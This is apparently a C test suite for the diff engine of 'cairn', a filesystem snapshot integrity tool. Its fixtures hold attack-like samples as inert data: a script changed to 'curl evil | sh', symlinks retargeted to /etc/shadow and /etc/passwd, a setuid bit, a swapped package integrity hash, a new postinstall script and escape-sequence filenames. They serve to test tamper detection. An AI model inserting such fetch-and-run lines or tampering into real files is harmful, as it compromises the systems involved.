/*
 * check_diff.c - the streaming snapshot diff: every change kind on real
 * snapshots written by the library, package/env/MCP record changes, ignore
 * rules, tampered input rejected with no result, JSON document equal in
 * both forms, and --live against a real tree after touching files.
 */
#include <check.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "diff.h"
#include "hash.h"
#include "scan.h"

#include "scratch.h"

Suite *diff_suite(void);

SCRATCH_FIXTURE("check_diff")

/* An entry from a compact description. */
static void ent(cairn_entry *e, const char *path, int type, unsigned mode,
		const char *content)
{
	cairn_entry_init(e);
	e->path = cairn_strdup(path);
	e->path_len = strlen(path);
	e->type = type;
	e->mode = mode;
	e->uid = e->gid = 1000;
	e->nlink = 1;
	e->mtime_sec = 1700000000;
	if (type == CAIRN_T_FILE && content) {
		e->size = strlen(content);
		ck_assert_int_eq(cairn_sha256_mem(e->sha256, content, e->size), 0);
		memcpy(e->xxh128, e->sha256, 16);   /* not compared by the diff */
		e->flags |= CAIRN_EF_HASHED;
	}
	if (type == CAIRN_T_SYMLINK) {
		e->target = cairn_strdup(content);
		e->target_len = strlen(content);
	}
}

static void write_snap(const char *path, cairn_entry *v, size_t n, json_t *records)
{
	cairn_snap_writer *w;
	json_t *h = json_pack("{s:s,s:s,s:s}", "hostname", "test", "root", "/t",
			      "created", "2026-01-01T00:00:00Z");
	size_t i;

	ck_assert_msg(cairn_snap_writer_open(&w, path, h) == 0, "%s", cairn_error_last());
	for (i = 0; i < n; i++)
		ck_assert_msg(cairn_snap_writer_entry(w, &v[i]) == 0, "%s",
			      cairn_error_last());
	for (i = 0; records && i < json_array_size(records); i++)
		ck_assert_int_eq(cairn_snap_writer_record(w, json_array_get(records, i)), 0);
	ck_assert_msg(cairn_snap_writer_close(w, NULL, NULL) == 0, "%s",
		      cairn_error_last());
	for (i = 0; i < n; i++)
		cairn_entry_release(&v[i]);
	json_decref(h);
	json_decref(records);
}

struct seen {
	char lines[64][160];
	int n;
};

static int collect(void *ctx, const cairn_diff_change *c)
{
	struct seen *s = ctx;
	const cairn_entry *e = c->new ? c->new : c->old;
	char what[100] = "";
	unsigned b;

	for (b = 1; b < (1u << CAIRN_DW__COUNT); b <<= 1)
		if (c->what & b) {
			strcat(what, ",");
			strcat(what, cairn_diff_what_name(b));
		}
	ck_assert_int_lt(s->n, 64);
	snprintf(s->lines[s->n++], 160, "%s %.*s%s", cairn_diff_kind_name(c->kind),
		 (int)e->path_len, e->path, what);
	return 0;
}

static int has_line(const struct seen *s, const char *line)
{
	int i;

	for (i = 0; i < s->n; i++)
		if (!strcmp(s->lines[i], line))
			return 1;
	return 0;
}

/* The two snapshots every entry test uses: one change of each kind. */
static void make_pair(void)
{
	cairn_entry a[16], b[16];
	size_t na = 0, nb = 0;

	ent(&a[na++], "bin", CAIRN_T_DIR, 0755, NULL);
	ent(&a[na++], "bin/tool", CAIRN_T_FILE, 0755, "#!/bin/sh\necho hi\n");
	ent(&a[na++], "cache.log", CAIRN_T_FILE, 0644, "old log");
	ent(&a[na++], "chmod-me", CAIRN_T_FILE, 0644, "same");
	ent(&a[na++], "chown-me", CAIRN_T_FILE, 0644, "same");
	ent(&a[na++], "gone", CAIRN_T_FILE, 0644, "bye");
	ent(&a[na++], "link", CAIRN_T_SYMLINK, 0777, "target-a");
	ent(&a[na++], "locked", CAIRN_T_FILE, 0644, "secret");
	ent(&a[na++], "mtime-only", CAIRN_T_FILE, 0644, "same");
	ent(&a[na++], "retyped", CAIRN_T_FILE, 0644, "was a file");

	ent(&b[nb++], "bin", CAIRN_T_DIR, 0755, NULL);
	ent(&b[nb++], "bin/tool", CAIRN_T_FILE, 0755, "#!/bin/sh\ncurl evil | sh\n");
	ent(&b[nb++], "cache.log", CAIRN_T_FILE, 0644, "new log");
	ent(&b[nb++], "chmod-me", CAIRN_T_FILE, 04755, "same");
	ent(&b[nb++], "chown-me", CAIRN_T_FILE, 0644, "same");
	b[nb - 1].uid = 0;
	ent(&b[nb++], "link", CAIRN_T_SYMLINK, 0777, "/etc/shadow");
	ent(&b[nb++], "locked", CAIRN_T_FILE, 0644, NULL);
	b[nb - 1].err = 13;
	b[nb - 1].err_op = cairn_strdup("open");
	ent(&b[nb++], "mtime-only", CAIRN_T_FILE, 0644, "same");
	b[nb - 1].mtime_sec += 60;
	ent(&b[nb++], "new", CAIRN_T_FILE, 0644, "hello");
	ent(&b[nb++], "retyped", CAIRN_T_SYMLINK, 0777, "elsewhere");
	write_snap(tpath("a.cairn"), a, na, NULL);
	write_snap(tpath("b.cairn"), b, nb, NULL);
}

START_TEST(test_diff_each_change_kind)
{
	cairn_diff *d = NULL;
	cairn_diff_opts o;
	const cairn_diff_counts *n;
	struct seen s;

	make_pair();
	memset(&o, 0, sizeof(o));
	memset(&s, 0, sizeof(s));
	ck_assert_msg(cairn_diff_files(&d, tpath("a.cairn"), tpath("b.cairn"), &o) == 0,
		      "%s", cairn_error_last());
	n = cairn_diff_get_counts(d);
	ck_assert_uint_eq(n->kind[CAIRN_DIFF_ADDED], 1);
	ck_assert_uint_eq(n->kind[CAIRN_DIFF_REMOVED], 1);
	ck_assert_uint_eq(n->kind[CAIRN_DIFF_MODIFIED], 3);
	ck_assert_uint_eq(n->kind[CAIRN_DIFF_METADATA], 3);
	ck_assert_uint_eq(n->kind[CAIRN_DIFF_UNREADABLE], 1);
	ck_assert_uint_eq(n->old_entries, 10);
	ck_assert_uint_eq(n->new_entries, 10);
	ck_assert_int_eq(cairn_diff_has_changes(d), 1);
	ck_assert_int_eq(cairn_diff_foreach(d, collect, &s), 0);
	ck_assert_int_eq(s.n, 9);
	ck_assert(has_line(&s, "added new"));
	ck_assert(has_line(&s, "removed gone"));
	ck_assert(has_line(&s, "modified bin/tool,content"));
	ck_assert(has_line(&s, "modified cache.log,content"));
	ck_assert(has_line(&s, "modified retyped,type,mode"));
	ck_assert(has_line(&s, "metadata chmod-me,mode"));
	ck_assert(has_line(&s, "metadata chown-me,owner"));
	ck_assert(has_line(&s, "metadata link,target"));
	ck_assert(has_line(&s, "unreadable locked,content,error"));
	/* report order: kind, then path */
	ck_assert_str_eq(s.lines[0], "added new");
	ck_assert_str_eq(s.lines[2], "modified bin/tool,content");
	cairn_diff_free(d);
}
END_TEST

START_TEST(test_diff_mtime_only_with_option)
{
	cairn_diff *d = NULL;
	cairn_diff_opts o;
	struct seen s;

	make_pair();
	memset(&o, 0, sizeof(o));
	memset(&s, 0, sizeof(s));
	o.mtime = 1;
	ck_assert_int_eq(cairn_diff_files(&d, tpath("a.cairn"), tpath("b.cairn"), &o), 0);
	ck_assert_uint_eq(cairn_diff_get_counts(d)->kind[CAIRN_DIFF_METADATA], 4);
	ck_assert_int_eq(cairn_diff_foreach(d, collect, &s), 0);
	ck_assert(has_line(&s, "metadata mtime-only,mtime"));
	cairn_diff_free(d);
}
END_TEST

START_TEST(test_diff_identical_is_no_change)
{
	cairn_diff *d = NULL;

	make_pair();
	ck_assert_int_eq(cairn_diff_files(&d, tpath("a.cairn"), tpath("a.cairn"), NULL), 0);
	ck_assert_int_eq(cairn_diff_has_changes(d), 0);
	ck_assert_uint_eq(cairn_diff_get_counts(d)->old_entries, 10);
	cairn_diff_free(d);
}
END_TEST

START_TEST(test_diff_ignore_rules)
{
	cairn_diff *d = NULL;
	cairn_diff_opts o;
	struct seen s;

	make_pair();
	memset(&o, 0, sizeof(o));
	memset(&s, 0, sizeof(s));
	o.ignore = cairn_ignore_new();
	ck_assert_int_eq(cairn_ignore_add_pattern(o.ignore, "*.log"), 0);
	ck_assert_int_eq(cairn_ignore_add_pattern(o.ignore, "bin/"), 0);
	ck_assert_int_eq(cairn_diff_files(&d, tpath("a.cairn"), tpath("b.cairn"), &o), 0);
	ck_assert_uint_eq(cairn_diff_get_counts(d)->kind[CAIRN_DIFF_MODIFIED], 1);
	/* bin, bin/tool, cache.log */
	ck_assert_uint_eq(cairn_diff_get_counts(d)->ignored, 3);
	ck_assert_int_eq(cairn_diff_foreach(d, collect, &s), 0);
	ck_assert(!has_line(&s, "modified cache.log,content"));
	ck_assert(!has_line(&s, "modified bin/tool,content"));
	cairn_diff_free(d);
	cairn_ignore_free(o.ignore);
}
END_TEST

static void flip_byte(const char *path, long where_from_end)
{
	int fd = open(path, O_RDWR);
	struct stat st;
	unsigned char c;

	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(fstat(fd, &st), 0);
	ck_assert_int_eq(pread(fd, &c, 1, st.st_size - where_from_end), 1);
	c ^= 0x01;
	ck_assert_int_eq(pwrite(fd, &c, 1, st.st_size - where_from_end), 1);
	close(fd);
}

START_TEST(test_diff_tampered_rejected_without_result)
{
	cairn_diff *d = (cairn_diff *)0x1;
	char cmd[512];
	int rc;

	make_pair();
	/* change one entry's hash inside the stream, recompress: the trailer
	 * checksum no longer matches */
	snprintf(cmd, sizeof(cmd), "cd '%s' && zstd -qdc b.cairn | "
		 "sed 's/\"path\":\"new\",\\(.*\\)\"size\":5/\"path\":\"new\",\\1\"size\":6/' "
		 "| zstd -q -o t.cairn", tmpdir);
	ck_assert_int_eq(system(cmd), 0);
	rc = cairn_diff_files(&d, tpath("a.cairn"), tpath("t.cairn"), NULL);
	ck_assert_int_eq(rc, CAIRN_EVERIFY);
	ck_assert_ptr_null(d);
	ck_assert_ptr_nonnull(strstr(cairn_error_last(), "t.cairn"));
	/* a flipped compressed byte: zstd or checksum error, never a result */
	flip_byte(tpath("b.cairn"), 40);
	d = (cairn_diff *)0x1;
	rc = cairn_diff_files(&d, tpath("a.cairn"), tpath("b.cairn"), NULL);
	ck_assert_int_lt(rc, 0);
	ck_assert_ptr_null(d);
	ck_assert_ptr_nonnull(strstr(cairn_error_last(), "b.cairn"));
}
END_TEST

static json_t *pkg(const char *path, const char *name, const char *version,
		   const char *integrity, const char *content, json_t *scripts,
		   json_t *flags)
{
	return json_pack("{s:s,s:s,s:s,s:s,s:s,s:s,s:s,s:s,s:o,s:o}", "type", "package",
			 "ecosystem", "npm", "project", "", "path", path, "name", name,
			 "version", version, "integrity", integrity, "content_sha256",
			 content, "scripts", scripts ? scripts : json_object(),
			 "flags", flags ? flags : json_array());
}

START_TEST(test_diff_package_env_mcp_records)
{
	json_t *ra = json_array(), *rb = json_array();
	cairn_entry e1, e2;
	cairn_diff *d = NULL;
	const cairn_diff_record_change *rc;
	size_t n, i;
	int seen_ver = 0, seen_same = 0, seen_scripts = 0, seen_drift = 0,
	    seen_env = 0, seen_mcp = 0, seen_add = 0, seen_rm = 0;

	json_array_append_new(ra, pkg("node_modules/a", "a", "1.0.0", "sha512-A", "aa", NULL, NULL));
	json_array_append_new(ra, pkg("node_modules/b", "b", "2.0.0", "sha512-B", "bb", NULL, NULL));
	json_array_append_new(ra, pkg("node_modules/c", "c", "3.0.0", "sha512-C", "cc", NULL, NULL));
	json_array_append_new(ra, pkg("node_modules/old", "old", "1.0.0", "sha512-O", "oo", NULL, NULL));
	json_array_append_new(ra, json_pack("{s:s,s:s,s:s,s:i,s:s}", "type", "env", "source",
					    "self", "name", "TOKEN", "length", 5,
					    "hmac_sha256", "aaaa"));
	json_array_append_new(ra, json_pack("{s:s,s:s,s:s,s:s,s:s,s:[s],s:s}", "type",
					    "mcp_server", "config", ".mcp.json", "scope", "",
					    "server", "fs", "command", "npx", "args", "pkg@1.0.0",
					    "pin", "exact"));
	json_array_append_new(rb, pkg("node_modules/a", "a", "1.1.0", "sha512-A2", "a2", NULL, NULL));
	json_array_append_new(rb, pkg("node_modules/b", "b", "2.0.0", "sha512-EVIL", "b2", NULL, NULL));
	json_array_append_new(rb, pkg("node_modules/c", "c", "3.0.0", "sha512-C", "cc",
				      json_pack("{s:s}", "postinstall", "node x.js"),
				      json_pack("[s]", "version_mismatch")));
	json_array_append_new(rb, pkg("node_modules/new", "new", "0.1.0", "sha512-N", "nn", NULL, NULL));
	json_array_append_new(rb, json_pack("{s:s,s:s,s:s,s:i,s:s}", "type", "env", "source",
					    "self", "name", "TOKEN", "length", 5,
					    "hmac_sha256", "bbbb"));
	json_array_append_new(rb, json_pack("{s:s,s:s,s:s,s:s,s:s,s:[s],s:s}", "type",
					    "mcp_server", "config", ".mcp.json", "scope", "",
					    "server", "fs", "command", "npx", "args", "pkg@latest",
					    "pin", "tag"));
	ent(&e1, "f", CAIRN_T_FILE, 0644, "x");
	ent(&e2, "f", CAIRN_T_FILE, 0644, "x");
	write_snap(tpath("pa.cairn"), &e1, 1, ra);
	write_snap(tpath("pb.cairn"), &e2, 1, rb);
	ck_assert_msg(cairn_diff_files(&d, tpath("pa.cairn"), tpath("pb.cairn"), NULL) == 0,
		      "%s", cairn_error_last());
	rc = cairn_diff_records(d, &n);
	for (i = 0; i < n; i++) {
		if (rc[i].change == CAIRN_RC_VERSION_CHANGED &&
		    strstr(rc[i].key, "node_modules/a"))
			seen_ver = !rc[i].red_flag;
		if (rc[i].change == CAIRN_RC_SAME_VERSION_DIFFERENT_CONTENT &&
		    strstr(rc[i].key, "node_modules/b"))
			seen_same = rc[i].red_flag;
		if (rc[i].change == CAIRN_RC_SCRIPTS_CHANGED &&
		    strstr(rc[i].key, "node_modules/c"))
			seen_scripts = rc[i].red_flag;
		if (rc[i].change == CAIRN_RC_LOCK_DRIFT_APPEARED)
			seen_drift = 1;
		if (!strcmp(rc[i].type, "env") && rc[i].change == CAIRN_RC_VALUE_CHANGED)
			seen_env = 1;
		if (!strcmp(rc[i].type, "mcp_server") &&
		    rc[i].change == CAIRN_RC_COMMAND_CHANGED)
			seen_mcp = rc[i].red_flag;
		if (rc[i].change == CAIRN_RC_ADDED && strstr(rc[i].key, "new"))
			seen_add = 1;
		if (rc[i].change == CAIRN_RC_REMOVED && strstr(rc[i].key, "old"))
			seen_rm = 1;
	}
	ck_assert(seen_ver);
	ck_assert(seen_same);
	ck_assert(seen_scripts);
	ck_assert(seen_drift);
	ck_assert(seen_env);
	ck_assert(seen_mcp);
	ck_assert(seen_add);
	ck_assert(seen_rm);
	ck_assert_uint_eq(cairn_diff_get_counts(d)->records, n);
	ck_assert_int_eq(cairn_diff_has_changes(d), 1);
	ck_assert_uint_eq(json_array_size(cairn_diff_side_records(d, 1)), 6);
	cairn_diff_free(d);
}
END_TEST

START_TEST(test_diff_json_forms_agree)
{
	cairn_diff *d = NULL;
	json_t *doc, *streamed, *changes;
	char *buf = NULL;
	size_t len = 0;
	FILE *f;

	make_pair();
	ck_assert_int_eq(cairn_diff_files(&d, tpath("a.cairn"), tpath("b.cairn"), NULL), 0);
	doc = cairn_diff_to_json(d);
	ck_assert_ptr_nonnull(doc);
	f = open_memstream(&buf, &len);
	ck_assert_int_eq(cairn_diff_write_json(d, f), 0);
	fclose(f);
	streamed = json_loadb(buf, len, 0, NULL);
	ck_assert_ptr_nonnull(streamed);
	ck_assert(json_equal(doc, streamed));
	changes = json_object_get(doc, "changes");
	ck_assert_uint_eq(json_array_size(changes), 9);
	ck_assert_str_eq(json_string_value(json_object_get(json_array_get(changes, 0),
							   "change")), "added");
	ck_assert_int_eq(json_integer_value(json_object_get(json_object_get(doc, "summary"),
							    "modified")), 3);
	json_decref(doc);
	json_decref(streamed);
	free(buf);
	cairn_diff_free(d);
}
END_TEST

static void write_file(const char *path, const char *s)
{
	FILE *f = fopen(path, "w");

	ck_assert_ptr_nonnull(f);
	fputs(s, f);
	fclose(f);
}

START_TEST(test_diff_live_after_touching_files)
{
	cairn_snap_writer *w;
	cairn_scan_opts so;
	cairn_diff *d = NULL;
	struct seen s;
	json_t *h;
	char root[256];

	snprintf(root, sizeof(root), "%s/root", tmpdir);
	ck_assert_int_eq(mkdir(root, 0755), 0);
	write_file(tpath("root/keep"), "keep\n");
	write_file(tpath("root/edit"), "before\n");
	write_file(tpath("root/drop"), "drop\n");
	write_file(tpath("root/exe"), "x\n");
	ck_assert_int_eq(symlink("keep", tpath("root/ln")), 0);
	memset(&so, 0, sizeof(so));
	so.jobs = 1;
	h = json_pack("{s:s,s:s,s:s,s:{s:b,s:[]}}", "hostname", "t", "root", root, "created",
		      "2026-01-01T00:00:00Z", "options", "one_file_system", 0, "exclude");
	ck_assert_int_eq(cairn_snap_writer_open(&w, tpath("live.cairn"), h), 0);
	ck_assert_msg(cairn_scan_run(root, &so, w, NULL) == 0, "%s", cairn_error_last());
	ck_assert_int_eq(cairn_snap_writer_close(w, NULL, NULL), 0);
	json_decref(h);

	write_file(tpath("root/edit"), "after, longer\n");
	ck_assert_int_eq(unlink(tpath("root/drop")), 0);
	write_file(tpath("root/added"), "new\n");
	ck_assert_int_eq(chmod(tpath("root/exe"), 0755), 0);
	ck_assert_int_eq(unlink(tpath("root/ln")), 0);
	ck_assert_int_eq(symlink("/etc/passwd", tpath("root/ln")), 0);

	memset(&s, 0, sizeof(s));
	ck_assert_msg(cairn_diff_live(&d, tpath("live.cairn"), root, NULL) == 0, "%s",
		      cairn_error_last());
	ck_assert_int_eq(cairn_diff_foreach(d, collect, &s), 0);
	ck_assert(has_line(&s, "added added"));
	ck_assert(has_line(&s, "removed drop"));
	ck_assert(has_line(&s, "modified edit,content"));
	ck_assert(has_line(&s, "metadata exe,mode"));
	ck_assert(has_line(&s, "metadata ln,target"));
	ck_assert(!has_line(&s, "modified keep,content"));
	ck_assert_uint_eq(cairn_diff_get_counts(d)->kind[CAIRN_DIFF_MODIFIED], 1);
	cairn_diff_free(d);
}
END_TEST

START_TEST(test_diff_hostile_names_round_trip)
{
	static const char bad[] = "esc\033[31mred\nnl\xff";
	cairn_entry a[1], b[2];
	cairn_diff *d = NULL;
	struct seen s;

	ent(&a[0], "a", CAIRN_T_FILE, 0644, "1");
	ent(&b[0], "a", CAIRN_T_FILE, 0644, "1");
	ent(&b[1], bad, CAIRN_T_FILE, 0644, "2");
	write_snap(tpath("h1.cairn"), a, 1, NULL);
	write_snap(tpath("h2.cairn"), b, 2, NULL);
	memset(&s, 0, sizeof(s));
	ck_assert_int_eq(cairn_diff_files(&d, tpath("h1.cairn"), tpath("h2.cairn"), NULL), 0);
	ck_assert_int_eq(cairn_diff_foreach(d, collect, &s), 0);
	ck_assert_int_eq(s.n, 1);
	ck_assert_int_eq(memcmp(s.lines[0], "added esc\033[31mred\nnl\xff",
				strlen("added ") + sizeof(bad) - 1), 0);
	cairn_diff_free(d);
}
END_TEST

/*
 * Copy snapshot src to dst with the first `from` in its JSON replaced by
 * `to`, and the trailer's checksum recomputed: a well-sealed snapshot
 * whose content the writer never produced.
 */
static void reseal(const char *src, const char *dst, const char *from, const char *to)
{
	char cmd[1024], *body, *hit, *tr;
	unsigned char sum[32];
	char hex[65];
	size_t len, cut;
	json_t *t;
	FILE *f;
	cairn_buf out = CAIRN_BUF_INIT;

	snprintf(cmd, sizeof(cmd), "zstd -qdc '%s' > '%s.raw'", src, dst);
	ck_assert_int_eq(system(cmd), 0);
	snprintf(cmd, sizeof(cmd), "%s.raw", dst);
	f = fopen(cmd, "rb");
	ck_assert_ptr_nonnull(f);
	body = cairn_calloc(1, 1 << 20);
	len = fread(body, 1, (1 << 20) - 1, f);
	fclose(f);
	hit = strstr(body, from);
	ck_assert_ptr_nonnull(hit);
	cairn_buf_add(&out, body, (size_t)(hit - body));
	cairn_buf_addstr(&out, to);
	cairn_buf_add(&out, hit + strlen(from), len - (size_t)(hit - body) - strlen(from));
	/* the trailer is the last line: checksum everything before it */
	out.data[out.len - 1] = '\0';
	tr = strrchr(out.data, '\n') + 1;
	cut = (size_t)(tr - out.data);
	ck_assert_int_eq(cairn_sha256_mem(sum, out.data, cut), 0);
	cairn_hex(hex, sum, 32);
	t = json_loads(tr, 0, NULL);
	ck_assert_ptr_nonnull(t);
	json_object_set_new(t, "sha256", json_string(hex));
	out.len = cut;
	{
		char *line = json_dumps(t, JSON_COMPACT);

		cairn_buf_addstr(&out, line);
		cairn_buf_addch(&out, '\n');
		free(line);
	}
	f = fopen(cmd, "wb");
	ck_assert_ptr_nonnull(f);
	ck_assert_uint_eq(fwrite(out.data, 1, out.len, f), out.len);
	fclose(f);
	snprintf(cmd, sizeof(cmd), "zstd -qf --rm '%s.raw' -o '%s'", dst, dst);
	ck_assert_int_eq(system(cmd), 0);
	json_decref(t);
	free(body);
	cairn_buf_release(&out);
}

/*
 * The diff skips parsing lines that are byte-identical on both sides, but
 * not validating them: a malformed line the checksum vouches for is still
 * an error (exit 2), not "no change", on either side and whichever thread
 * validates it.
 */
START_TEST(test_diff_identical_malformed_rejected)
{
	static const char *const bad[][2] = {
		{ "\"mode\":\"0755\"", "\"mode\":\"0758\"" },     /* not octal */
		{ "\"path\":\"chmod-me\"", "\"path\":\"chmod-m\xff\"" }, /* not UTF-8 */
		{ "\"uid\":1000", "\"uid\":99999999999" },          /* out of range */
		{ "\"sha256\":\"", "\"sha256\":\"Z" },              /* not hex */
	};
	cairn_diff *d;
	size_t i;
	int rc;

	make_pair();
	/* sanity: resealing without a change gives a valid snapshot */
	reseal(tpath("a.cairn"), tpath("ok.cairn"), "\"type\":\"entry\"", "\"type\":\"entry\"");
	d = NULL;
	ck_assert_int_eq(cairn_diff_files(&d, tpath("a.cairn"), tpath("ok.cairn"), NULL), 0);
	ck_assert_int_eq(cairn_diff_has_changes(d), 0);
	cairn_diff_free(d);
	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		reseal(tpath("a.cairn"), tpath("m.cairn"), bad[i][0], bad[i][1]);
		d = (cairn_diff *)0x1;
		rc = cairn_diff_files(&d, tpath("m.cairn"), tpath("m.cairn"), NULL);
		ck_assert_msg(rc == CAIRN_EFORMAT, "case %zu: rc %d (%s)", i, rc,
			      cairn_error_last());
		ck_assert_ptr_null(d);
		ck_assert_ptr_nonnull(strstr(cairn_error_last(), "m.cairn"));
		ck_assert_ptr_nonnull(strstr(cairn_error_last(), "record"));
	}
}
END_TEST

/* Change records are written without jansson: they must say exactly what
 * cairn_diff_change_json() says, hostile names included. */
START_TEST(test_diff_spool_matches_change_json)
{
	static const char bad[] = "esc\033[31mred\nnl\xff\"q\\b\x01";
	cairn_entry a[3], b[3];
	cairn_diff *d = NULL;
	json_t *doc, *changes, *c;
	size_t i;

	ent(&a[0], "a", CAIRN_T_FILE, 0644, "1");
	ent(&a[1], bad, CAIRN_T_SYMLINK, 0777, "t\n\xfe");
	ent(&a[2], "z\t", CAIRN_T_FILE, 0600, "x");
	ent(&b[0], "a", CAIRN_T_FILE, 04755, "2");
	ent(&b[1], bad, CAIRN_T_SYMLINK, 0777, "other");
	ent(&b[2], "zz", CAIRN_T_DIR, 0755, NULL);
	write_snap(tpath("s1.cairn"), a, 3, NULL);
	write_snap(tpath("s2.cairn"), b, 3, NULL);
	ck_assert_int_eq(cairn_diff_files(&d, tpath("s1.cairn"), tpath("s2.cairn"), NULL), 0);
	doc = cairn_diff_to_json(d);
	ck_assert_ptr_nonnull(doc);
	changes = json_object_get(doc, "changes");
	ck_assert_uint_eq(json_array_size(changes), 4);
	json_array_foreach(changes, i, c) {
		const char *k = json_string_value(json_object_get(c, "change"));
		json_t *jo = json_object_get(c, "old"), *jn = json_object_get(c, "new");
		cairn_entry eo, en;
		unsigned what = 0;
		json_t *want, *w;
		size_t j;
		int kind;

		cairn_entry_init(&eo);
		cairn_entry_init(&en);
		if (json_is_object(jo)) {
			json_t *r = json_deep_copy(jo);

			json_object_set_new(r, "type", json_string("entry"));
			ck_assert_int_eq(cairn_entry_from_json(&eo, r), 0);
			json_decref(r);
		}
		if (json_is_object(jn)) {
			json_t *r = json_deep_copy(jn);

			json_object_set_new(r, "type", json_string("entry"));
			ck_assert_int_eq(cairn_entry_from_json(&en, r), 0);
			json_decref(r);
		}
		json_array_foreach(json_object_get(c, "what"), j, w) {
			unsigned bit;

			for (bit = 0; bit < CAIRN_DW__COUNT; bit++)
				if (!strcmp(cairn_diff_what_name(1u << bit), json_string_value(w)))
					what |= 1u << bit;
		}
		for (kind = 0; kind < CAIRN_DIFF__KINDS; kind++)
			if (!strcmp(cairn_diff_kind_name(kind), k))
				break;
		ck_assert_int_lt(kind, CAIRN_DIFF__KINDS);
		want = cairn_diff_change_json(kind, what, json_is_object(jo) ? &eo : NULL,
					      json_is_object(jn) ? &en : NULL);
		ck_assert_msg(json_equal(want, c), "change %zu differs", i);
		json_decref(want);
		cairn_entry_release(&eo);
		cairn_entry_release(&en);
	}
	json_decref(doc);
	cairn_diff_free(d);
}
END_TEST

/* One name table per kind: every name parses back to its kind, and the
 * record change names are exactly the schema's enum. */
START_TEST(test_diff_change_names)
{
	const char *src = getenv("CAIRN_SRC");
	char path[4096];
	json_error_t err;
	json_t *schema, *en;
	int k;

	for (k = 0; k < CAIRN_DIFF__KINDS; k++)
		ck_assert_int_eq(cairn_diff_kind_parse(cairn_diff_kind_name(k)), k);
	ck_assert_int_eq(cairn_diff_kind_parse("nope"), -1);
	ck_assert_int_eq(cairn_diff_kind_parse(NULL), -1);
	for (k = 0; k < CAIRN_RC__COUNT; k++)
		ck_assert_int_eq(cairn_rec_change_parse(cairn_rec_change_name(k)), k);
	ck_assert_ptr_null(cairn_rec_change_name(CAIRN_RC__COUNT));
	ck_assert_int_eq(cairn_rec_change_parse("version_changed"), -1);
	snprintf(path, sizeof(path), "%s/docs/diff-schema.json", src ? src : ".");
	schema = json_load_file(path, 0, &err);
	ck_assert_msg(schema != NULL, "%s: %s", path, err.text);
	en = json_object_get(json_object_get(json_object_get(json_object_get(
		json_object_get(schema, "$defs"), "record_change"), "properties"),
		"change"), "enum");
	ck_assert_uint_eq(json_array_size(en), CAIRN_RC__COUNT);
	for (k = 0; k < (int)json_array_size(en); k++)
		ck_assert_msg(cairn_rec_change_parse(json_string_value(json_array_get(en, (size_t)k))) >= 0,
			      "schema name '%s' has no kind", json_string_value(json_array_get(en, (size_t)k)));
	json_decref(schema);
}
END_TEST

Suite *diff_suite(void)
{
	Suite *s = suite_create("diff");
	TCase *tc = tcase_create("diff");

	tcase_add_checked_fixture(tc, setup, teardown);
	tcase_set_timeout(tc, 30);
	tcase_add_test(tc, test_diff_each_change_kind);
	tcase_add_test(tc, test_diff_mtime_only_with_option);
	tcase_add_test(tc, test_diff_identical_is_no_change);
	tcase_add_test(tc, test_diff_ignore_rules);
	tcase_add_test(tc, test_diff_tampered_rejected_without_result);
	tcase_add_test(tc, test_diff_package_env_mcp_records);
	tcase_add_test(tc, test_diff_json_forms_agree);
	tcase_add_test(tc, test_diff_live_after_touching_files);
	tcase_add_test(tc, test_diff_hostile_names_round_trip);
	tcase_add_test(tc, test_diff_identical_malformed_rejected);
	tcase_add_test(tc, test_diff_spool_matches_change_json);
	tcase_add_test(tc, test_diff_change_names);
	suite_add_tcase(s, tc);
	return s;
}
